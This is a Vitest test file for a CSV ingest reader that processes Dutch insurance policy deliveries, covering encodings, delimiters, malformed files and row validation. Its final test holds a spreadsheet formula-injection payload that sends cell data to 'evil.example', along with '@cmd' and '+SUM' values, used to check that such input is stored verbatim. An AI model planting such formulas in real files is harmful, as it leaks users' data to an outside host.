import iconv from "iconv-lite";
import { describe, expect, it } from "vitest";
import { readDelivery } from "../../src/ingest/read-delivery.ts";
import { accepted, bytes, csvOf, readAll, rejection } from "./support.ts";

const HEADER = "polisnummer;achternaam;product;ingangsdatum";
const ROW = "VA1;Jansen;RB-PARTICULIER;01-01-2024";

describe("whole-file problems are rejected with a clear message", () => {
  it.each([
    ["an empty file", ""],
    ["a file with only a BOM", "\uFEFF"],
    ["a file with only blank lines", "\r\n\n  \n"],
  ])("%s", async (_case, data) => {
    const error = await rejection(data);
    expect(error.code).toBe("DELIVERY_REJECTED");
    expect(error.message).toMatch(/empty/);
  });

  it("a binary file (NUL bytes)", async () => {
    const png = Buffer.from([
      0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52,
    ]);
    const error = await rejection(png);
    expect(error.code).toBe("DELIVERY_REJECTED");
    expect(error.message).toMatch(/binary/);
  });

  it("a binary file without NUL bytes (neither UTF-8 nor Windows-1252)", async () => {
    const junk = Buffer.from(
      Array.from({ length: 2000 }, (_, i) => [0x81, 0x8d, 0x41, 0x0a, 0x9d, 0x8f][i % 6]!),
    );
    expect((await rejection(junk)).message).toMatch(/binary/);
  });

  it("a ZIP (e.g. an .xlsx sent instead of CSV)", async () => {
    const zip = Buffer.concat([Buffer.from("PK\x03\x04\x14\x00\x06\x00", "latin1"), Buffer.alloc(200, 7)]);
    expect((await rejection(zip)).message).toMatch(/binary/);
  });

  it("a UTF-16 file", async () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`${HEADER}\n${ROW}\n`, "utf16le")]);
    expect((await rejection(utf16)).message).toMatch(/UTF-16/);
  });

  it("a wrong delimiter (tab): the header is one single column", async () => {
    const error = await rejection(`${HEADER.replaceAll(";", "\t")}\n${ROW.replaceAll(";", "\t")}\n`);
    expect(error.code).toBe("DELIVERY_REJECTED");
    expect(error.message).toMatch(/single column.*";" or ","/);
  });

  it("a header without polisnummer", async () => {
    const error = await rejection(
      "polis;achternaam;product;ingangsdatum\nVA1;Jansen;RB-PARTICULIER;01-01-2024\n",
    );
    expect(error.code).toBe("DELIVERY_REJECTED");
    expect(error.message).toMatch(/no polisnummer column/);
  });

  it("a header without the other required columns", async () => {
    expect((await rejection("polisnummer;achternaam\nVA1;Jansen\n")).message).toMatch(
      /product, ingangsdatum/,
    );
  });

  it("a header naming a column twice", async () => {
    expect((await rejection(`${HEADER};Polisnummer\n${ROW};VA2\n`)).message).toMatch(/polisnummer twice/);
  });

  it("a record over the size limit, naming the line it starts on", async () => {
    const huge = `VA2;${"x".repeat(5000)};RB-PARTICULIER;01-01-2024`;
    const error = await rejection(`${HEADER}\n${ROW}\n${huge}\n`, { maxRecordBytes: 1000 });
    expect(error.code).toBe("DELIVERY_REJECTED");
    expect(error.message).toMatch(/line 3 is larger than the limit of 1000/);
  });

  it("the rows before a record over the limit are read before the rejection", async () => {
    const huge = `VA3;${"x".repeat(5000)};RB-PARTICULIER;01-01-2024`;
    const read: number[] = [];
    const reading = (async () => {
      const text = `${HEADER}\n${ROW}\nVA2;Bos;RB-PARTICULIER;01-01-2024\n${huge}\n`;
      for await (const row of readDelivery(bytes(text), {
        partner: "VOLMACHT-A",
        format: "csv",
        profile: "standaard",
        maxRecordBytes: 1000,
      }))
        read.push(row.line);
    })();
    await expect(reading).rejects.toThrow(/line 4 is larger than the limit of 1000/);
    expect(read).toEqual([2, 3]);
  });

  it("a record over the default limit (256 KiB), e.g. an unclosed quote swallowing the file", async () => {
    const rows = Array.from({ length: 20_000 }, (_, i) => `VA${i};Jansen;RB-PARTICULIER;01-01-2024`);
    const error = await rejection(`${HEADER}\nVA0;"Jansen;RB-PARTICULIER;01-01-2024\n${rows.join("\n")}\n`);
    expect(error.message).toMatch(/line 2 is larger than the limit/);
  });

  it("a quote opened and never closed", async () => {
    expect((await rejection(`${HEADER}\n${ROW}\nVA2;"Jansen;RB;01-01-2024\n`)).message).toMatch(
      /line 3 is never closed/,
    );
  });

  it("an unknown profile is a validation error", async () => {
    const error = await rejection(`${HEADER}\n${ROW}\n`, { profile: "bestaat-niet" });
    expect(error.code).toBe("VALIDATION_FAILED");
    expect(error.message).toMatch(/unknown profile "bestaat-niet"/);
  });
});

describe("real-world files are read right", () => {
  it("CRLF line endings (and a mix with LF)", async () => {
    const rows = await readAll(
      `${HEADER}\r\n${ROW}\r\nVA2;de Vries;RB-PARTICULIER;02-01-2024\nVA3;Bos;RB-PARTICULIER;03-01-2024`,
    );
    expect(rows.map((r) => [r.line, accepted(r).policyNumber, accepted(r).party.surname])).toEqual([
      [2, "VA1", "Jansen"],
      [3, "VA2", "Vries"],
      [4, "VA3", "Bos"],
    ]);
  });

  it("Excel's sep=; line before the header", async () => {
    const rows = await readAll(`sep=;\r\n${HEADER}\r\n${ROW}\r\n`);
    expect(rows.map((r) => [r.line, accepted(r).policyNumber])).toEqual([[3, "VA1"]]);
    expect((await rejection(`sep=\t\n${HEADER.replaceAll(";", "\t")}\n`)).message).toMatch(/";" or ","/);
  });

  it("a UTF-8 BOM before the header", async () => {
    const [row] = await readAll(`\uFEFF${HEADER}\n${ROW}\n`);
    expect(accepted(row).policyNumber).toBe("VA1");
  });

  it("Windows-1252 with ë, é and €", async () => {
    const text = `${HEADER};straat;eigen_risico\r\nVA1;Zoë Brontë;RB-PARTICULIER;01-01-2024;Rue de l'Église;€ 250\r\n`;
    const cp1252 = iconv.encode(text, "windows1252");
    expect(cp1252.includes(0x80)).toBe(true); // € is 0x80 in Windows-1252 and absent from latin1
    let encoding: string | undefined;
    const row = accepted((await readAll(cp1252, { onEncoding: (e) => (encoding = e) }))[0]);
    expect(encoding).toBe("windows1252");
    expect(row.party.surname).toBe("Zoë Brontë");
    expect(row.address.street).toBe("Rue de l'Église");
    expect(row.policy.deductible).toBe(250);
  });

  it("Windows-1252 whose first accented letter comes after the first 64 KiB", async () => {
    const filler = Array.from({ length: 3000 }, (_, i) => `VA${i};Jansen;RB-PARTICULIER;01-01-2024`).join(
      "\r\n",
    );
    const text = `${HEADER}\r\n${filler}\r\nVA-LAST;Çelik;RB-PARTICULIER;01-01-2024\r\n`;
    const rows = await readAll(iconv.encode(text, "windows1252"));
    expect(accepted(rows.at(-1)).party.surname).toBe("Çelik");
    expect(rows.at(-1)!.line).toBe(3002);
  });

  it("UTF-8 fed one byte at a time reads the same as in one piece", async () => {
    const text = `${HEADER};voornamen\nVA1;Yılmaz;RB-PARTICULIER;01-01-2024;Zoë\nVA2;Öztürk;RB-PARTICULIER;01-01-2024;Anaïs\n`;
    const whole = await readAll(text);
    const bytewise = await readAll(text, {}, 1);
    expect(bytewise).toEqual(whole);
    expect(whole.map((r) => accepted(r).party.surname)).toEqual(["Yılmaz", "Öztürk"]);
  });

  it("a UTF-8 file with a stray invalid byte later on rejects that field, not silently", async () => {
    const good = Array.from({ length: 10 }, (_, i) => `VA${i};Çelik;RB-PARTICULIER;01-01-2024`).join("\n");
    const data = Buffer.concat([
      Buffer.from(`${HEADER}\n${good}\n`),
      Buffer.from("VA-X;Jans"),
      Buffer.from([0xeb]),
      Buffer.from("n;RB-PARTICULIER;01-01-2024\n"),
    ]);
    const rows = await readAll(data);
    expect(rows.filter((r) => r.ok)).toHaveLength(10);
    const bad = rows.at(-1)!;
    expect(bad.ok).toBe(false);
    if (!bad.ok) expect(bad.errors[0]).toMatchObject({ line: 12, field: "achternaam" });
  });

  it("comma-delimited files, with quoted delimiters in values", async () => {
    const text =
      'polisnummer,achternaam,straat,product,ingangsdatum\nVA1,"Jansen, de","Laan 1; achter",RB-PARTICULIER,01-01-2024\n';
    const row = accepted((await readAll(text))[0]);
    expect(row.party).toMatchObject({ tussenvoegsel: "de", surname: "Jansen" });
    expect(row.address.street).toBe("Laan 1; achter");
  });

  it("a header whose quoted part holds the other delimiter is still detected right", async () => {
    const text = '"polisnummer";"achternaam";"product, code";"ingangsdatum"\nVA1;Jansen;RB;01-01-2024\n';
    await expect(readAll(text)).rejects.toThrow(/product/); // "product, code" is no product column
    const ok =
      '"polisnummer";"achternaam";"product";"ingangsdatum";"opmerking, intern"\nVA1;Jansen;RB;01-01-2024;x\n';
    expect(accepted((await readAll(ok))[0]).policy.product).toBe("RB");
  });

  it("quoted newlines: a record reports the line it starts on and later lines stay right", async () => {
    const text = `${HEADER};straat\nVA1;Jansen;RB-PARTICULIER;01-01-2024;"Kerkstraat\r\nachterhuis\nboven"\nVA2;Bos;RB-PARTICULIER;01-01-2024;Markt\nVA3;;RB-PARTICULIER;01-01-2024;x\n`;
    const rows = await readAll(text);
    expect(rows.map((r) => r.line)).toEqual([2, 5, 6]);
    expect(accepted(rows[0]).address.street).toBe("Kerkstraat achterhuis boven");
    expect(rows[2]!.ok).toBe(false);
    if (!rows[2]!.ok)
      expect(rows[2]!.errors).toEqual([{ line: 6, field: "achternaam", message: expect.any(String) }]);
  });

  it("invalid rows mixed with valid ones: valid accepted, invalid reported with line and field", async () => {
    const text = csvOf(
      ["polisnummer", "achternaam", "product", "ingangsdatum", "postcode", "geboortedatum"],
      [
        { polisnummer: "VA1", achternaam: "Jansen", product: "RB-PARTICULIER", ingangsdatum: "01-01-2024" },
        {
          polisnummer: "VA2",
          achternaam: "Bos",
          product: "RB-PARTICULIER",
          ingangsdatum: "01-01-2024",
          postcode: "12AB",
        },
        { polisnummer: "", achternaam: "Vos", product: "RB-PARTICULIER", ingangsdatum: "01-01-2024" },
        {
          polisnummer: "VA4",
          achternaam: "Smit",
          product: "RB-PARTICULIER",
          ingangsdatum: "2024-01-01",
          geboortedatum: "32-01-1980",
        },
        { polisnummer: "VA5", achternaam: "Kok", product: "RB-PARTICULIER", ingangsdatum: "20240101" },
      ],
    );
    const rows = await readAll(`${text}\n\n`);
    expect(rows.filter((r) => r.ok).map((r) => [r.line, accepted(r).policyNumber])).toEqual([
      [2, "VA1"],
      [6, "VA5"],
    ]);
    const errors = rows.flatMap((r) => (r.ok ? [] : r.errors.map((e) => [e.line, e.field])));
    expect(errors).toEqual([
      [3, "postcode"],
      [4, "polisnummer"],
      [5, "geboortedatum"],
    ]);
  });

  it("a row with more fields than the header is an error on that row", async () => {
    const rows = await readAll(`${HEADER}\nVA1;Jansen;RB-PARTICULIER;01-01-2024;extra\n${ROW}\n`);
    expect(rows[0]).toMatchObject({ line: 2, ok: false, errors: [{ field: "(row)" }] });
    expect(rows[1]!.ok).toBe(true);
  });

  it("unknown columns are ignored", async () => {
    const row = accepted((await readAll(`${HEADER};opmerking\n${ROW};belt vaak\n`))[0]);
    expect(JSON.stringify(row)).not.toContain("belt vaak");
  });

  it("formula-like values are stored verbatim, never evaluated or stripped", async () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"klik")';
    const quoted = `"${formula.replaceAll('"', '""')}"`;
    const text = `${HEADER};straat;woonplaats;telefoon\nVA1;${quoted};RB-PARTICULIER;01-01-2024;+SUM(1;2);@cmd;-2+3\n`;
    const rows = await readAll(text.replace("+SUM(1;2)", '"+SUM(1;2)"'));
    const row = accepted(rows[0]);
    expect(row.party.surname).toBe(formula);
    expect(row.address.street).toBe("+SUM(1;2)");
    expect(row.address.city).toBe("@cmd");
    expect(row.phones).toEqual([{ raw: "-2+3", e164: null }]);
  });
});
